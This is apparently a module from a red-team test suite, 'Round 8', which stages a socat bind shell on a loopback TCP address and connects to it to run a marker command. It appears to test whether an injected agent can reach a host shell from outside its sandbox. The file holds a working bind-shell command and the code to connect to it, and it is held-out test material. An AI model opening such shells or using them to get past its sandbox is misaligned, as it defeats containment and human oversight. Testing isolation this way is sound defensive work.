"""Round 8: the classic bind shell on loopback TCP: ``socat TCP-LISTEN,fork EXEC:/bin/sh``.

Earlier rounds reached socat's shell service over unix sockets (stream,
datagram, abstract, seqpacket).  Here it listens on a new loopback address
over TCP (staged before the victims, outside their trees); the agent
connects and sends one command line.
"""

from __future__ import annotations

import socket
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 5
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 8
STAGE = True
EXPECT = ("L2",)
IP = "127.0.8.51"


def _files(work: str) -> tuple[Path, Path]:
    d = Path(work).parent / "daemons"
    return d / "r8-bindshell.port", d / "r8-bindshell.pid"


def _listening(port: int) -> bool:
    """socat's listener is up: its socket shows in /proc/net/tcp in LISTEN state (no connect to probe it)."""
    want = f"{socket.htonl(int.from_bytes(socket.inet_aton(IP), 'big')):08X}:{port:04X}"
    with open("/proc/net/tcp") as f:
        return any(line.split()[1] == want and line.split()[3] == "0A" for line in list(f)[1:])


def stage(args: dict[str, Any]) -> None:
    portfile, pid = _files(args["work"])
    with socket.socket() as probe:  # a free port on IP, handed to socat
        probe.bind((IP, 0))
        port = probe.getsockname()[1]
    portfile.write_text(str(port))
    argv = ["socat", f"TCP-LISTEN:{port},bind={IP},reuseaddr,fork", "EXEC:/bin/sh"]
    rt.stage_daemon(argv, pid, lambda: _listening(port))


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_files(args["work"])[1])


def run(args: dict[str, Any]) -> None:
    marker = str(args["marker"])
    port = int(_files(args["work"])[0].read_text())
    t = rt.now()
    with socket.create_connection((rt.loopback(IP), port), timeout=10) as s:
        s.sendall(f"touch '{marker}'\nexit\n".encode())
        s.shutdown(socket.SHUT_WR)
        s.recv(1024)
    ok = rt.wait_file(marker, 5)
    rt.report(t, ok, f"TCP {IP}:{port} -> socat EXEC:/bin/sh: marker {ok}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
